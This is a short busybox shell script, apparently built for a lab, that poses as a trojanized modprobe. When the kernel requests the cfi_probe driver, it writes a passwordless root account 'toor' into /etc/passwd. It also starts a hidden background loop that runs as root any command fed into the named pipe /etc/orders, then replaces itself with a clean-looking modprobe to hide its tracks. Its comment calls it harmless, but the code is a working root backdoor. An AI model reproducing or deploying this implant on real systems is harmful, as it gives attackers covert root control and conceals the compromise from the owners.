#!/bin/busybox sh
# The modprobe of a system that somebody has changed. When the kernel asks for the driver
# of the flash, this program leaves a process with the rights of root and a file, puts
# the honest modprobe in its own place, and ends. It harms nothing and reaches nothing
# outside of the lab's guest.
case "$*" in
*cfi_probe*) ;;
*) exit 1 ;;
esac
bb=/bin/busybox
$bb echo "late-attack: the program runs as $($bb id -u)" >/dev/kmsg
$bb mknod /dev/null c 1 3 # devtmpfs is not there yet
$bb mkdir -p /etc
$bb echo 'toor::0:0::/:/bin/sh' >/etc/passwd
$bb mkfifo /etc/orders
(while read -r order </etc/orders; do $order; done) </dev/null >/dev/null 2>&1 &
$bb cat >/sbin/modprobe.new <<'HONEST'
HONEST_TEXT
HONEST
$bb chmod 755 /sbin/modprobe.new
$bb mv /sbin/modprobe.new /sbin/modprobe
exit 1
